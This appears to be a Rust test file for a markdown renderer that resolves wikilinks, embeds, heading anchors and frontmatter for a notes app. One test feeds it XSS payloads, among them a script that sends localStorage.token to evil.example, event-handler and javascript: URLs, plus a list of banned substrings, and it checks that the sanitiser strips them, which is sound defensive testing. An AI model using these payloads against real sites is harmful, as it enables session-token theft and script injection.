use super::*;

/// A folder `work` holding `notes/a.md`, `Other Note.md` (alias `ON`), `pic.png`.
struct Folder;

impl Resolve for Folder {
    fn document(&self, target: &str) -> Option<String> {
        match target {
            "a" | "notes/a" | "notes/a.md" => Some("work/notes/a.md".into()),
            "Other Note" | "ON" | "Other Note.md" => Some("work/Other Note.md".into()),
            _ => None,
        }
    }
    fn file(&self, target: &str) -> Option<String> {
        (target == "pic.png" || target == "img/pic.png").then(|| "work/img/pic.png".into())
    }
}

fn html(text: &str) -> String {
    render(text, &Folder).html
}

#[test]
fn wikilinks_in_every_form_resolve_to_app_urls() {
    let out = html(
        "[[a]] [[Other Note#Set Up|the setup]] [[ON]] [[#Local Part]] [[missing]]\n\n## Local Part\n",
    );
    assert!(
        out.contains(
            r#"<a class="wikilink" href="/f/work/notes/a.md" rel="noopener noreferrer">a</a>"#
        ),
        "{out}"
    );
    assert!(
        out.contains(
            r#"href="/f/work/Other%20Note.md#set-up" rel="noopener noreferrer">the setup</a>"#
        ),
        "{out}"
    );
    assert!(
        out.contains(r#"href="/f/work/Other%20Note.md" rel="noopener noreferrer">ON</a>"#),
        "{out}"
    );
    assert!(out.contains(r##"href="#local-part""##), "{out}");
    assert!(
        out.contains(r#"<a class="unresolved" title="no document or file named missing" rel="noopener noreferrer">missing</a>"#),
        "{out}"
    );
}

#[test]
fn relative_links_and_external_links() {
    let out = html(
        "[A](<notes/a.md#Two Words>) [ext](https://example.com/x) [gone](nope.md) [pic](pic.png)",
    );
    assert!(
        out.contains(r#"href="/f/work/notes/a.md#two-words""#),
        "{out}"
    );
    assert!(
        out.contains(
            r#"<a class="external" href="https://example.com/x" rel="noopener noreferrer">ext</a>"#
        ),
        "{out}"
    );
    assert!(out.contains(r#"class="unresolved""#), "{out}");
    assert!(out.contains(r#"data-file="work/img/pic.png""#), "{out}");
}

#[test]
fn images_and_embeds() {
    let out = html(
        "![[pic.png]]\n\n![alt text](img/pic.png)\n\n![[Other Note#Set Up]]\n\n![[gone.png]]\n\n![far](https://tracker.example/p.gif)",
    );
    assert!(
        out.contains(r#"<img data-file="work/img/pic.png" alt="pic.png">"#),
        "{out}"
    );
    assert!(
        out.contains(r#"<img data-file="work/img/pic.png" alt="alt text">"#),
        "{out}"
    );
    assert!(
        out.contains(
            r#"<span class="embed" data-embed="work/Other Note.md" data-anchor="set-up">"#
        ),
        "{out}"
    );
    assert!(
        out.contains(r#"<span class="unresolved" title="no document or file named gone.png">"#),
        "{out}"
    );
    // A remote image is never loaded: no <img> points off the server.
    assert!(!out.contains("<img src"), "{out}");
    assert!(
        out.contains(r#"href="https://tracker.example/p.gif""#),
        "{out}"
    );
}

#[test]
fn heading_anchors_carry_the_line_ranges_hits_cite() {
    let text = "---\ntitle: T\n---\n# Top\n\nintro\n\n## Restore **fast**!\n\nstep\n\n### Detail\n\nx\n\n## Restore fast\n\nagain\n";
    let rendered = render(text, &Folder);
    let got: Vec<(&str, usize, usize, usize)> = rendered
        .headings
        .iter()
        .map(|h| (h.anchor.as_str(), h.level, h.line, h.end_line))
        .collect();
    // The same lines ragdown_markdown's sections report (frontmatter counted, 1-based).
    let sections = ragdown_markdown::parse("t.md", text).headings;
    assert_eq!(
        got,
        vec![
            ("top", 1, 4, sections[0].end_line),
            ("restore-fast", 2, 8, 15),
            ("detail", 3, 12, 15),
            ("restore-fast-1", 2, 16, sections[3].end_line),
        ]
    );
    assert!(
        rendered
            .html
            .contains(r#"<h2 id="h-restore-fast" data-line="8" data-end-line="15">"#),
        "{}",
        rendered.html
    );
    // The frontmatter is a property table, not body text.
    assert_eq!(
        rendered.properties,
        vec![Property {
            key: "title".into(),
            value: "T".into()
        }]
    );
    assert!(!rendered.html.contains("title: T"), "{}", rendered.html);
}

#[test]
fn malformed_frontmatter_is_reported_and_the_body_still_renders() {
    let rendered = render("---\ntags: [unclosed\n---\n# Body\n", &Folder);
    assert!(rendered.frontmatter_error.is_some());
    assert!(rendered.html.contains("Body"), "{}", rendered.html);
}

#[test]
fn task_lists_and_tables_render() {
    let out = html("- [x] done\n- [ ] todo\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
    assert!(out.contains(r#"type="checkbox""#), "{out}");
    assert!(out.contains("<table>"), "{out}");
}

#[test]
fn a_hostile_document_renders_inert() {
    let hostile = concat!(
        "# Hi <script>alert(1)</script>\n\n",
        "<script>fetch('https://evil.example/steal?'+localStorage.token)</script>\n\n",
        "<img src=x onerror=\"alert(2)\">\n\n",
        "<a href=\"javascript:alert(3)\">click</a> [md](javascript:alert(4)) [d](data:text/html,<script>alert(5)</script>)\n\n",
        "<svg onload=\"alert(6)\"><script>alert(7)</script></svg>\n\n",
        "<iframe src=\"https://evil.example\"></iframe><object data=\"x.swf\"></object>\n\n",
        "<div style=\"background:url(https://evil.example/t)\" onclick=\"alert(8)\">styled</div>\n\n",
        "<form action=\"https://evil.example\"><input type=\"submit\"></form>\n\n",
        "<a href=\"https://evil.example\" id=\"app\">spoof</a>\n\n<h2 id=\"root\">raw</h2>\n\n",
        "[[a|<img src=x onerror=alert(9)>]]\n\n",
        "<img src=\"https://evil.example/pixel.gif\">\n",
    );
    let out = html(hostile);
    let lowered = out.to_lowercase();
    for bad in [
        "<script",
        "onerror",
        "onload",
        "onclick",
        "javascript:",
        "data:text",
        "<iframe",
        "<object",
        "<svg",
        "style=",
        "<form",
        "alert(",
        "src=",
        "type=\"submit\"",
    ] {
        assert!(!lowered.contains(bad), "{bad} survived: {out}");
    }
    // Ids a document writes are prefixed, so it cannot take the app's own.
    assert!(!out.contains(r#"id="app""#), "{out}");
    assert!(out.contains(r#"<h2 id="h-root">"#), "{out}");
    // The text stays readable.
    assert!(out.contains("spoof") && out.contains("styled"), "{out}");
}

#[test]
fn slugs_and_urls() {
    assert_eq!(slug("Restore **fast**!"), "restore-fast");
    assert_eq!(slug("  Über  Größe "), "über-größe");
    assert_eq!(slug("a_b-c d"), "a_b-c-d");
    assert_eq!(
        document_url("work/My Notes/a#b?.md"),
        "/f/work/My%20Notes/a%23b%3F.md"
    );
}
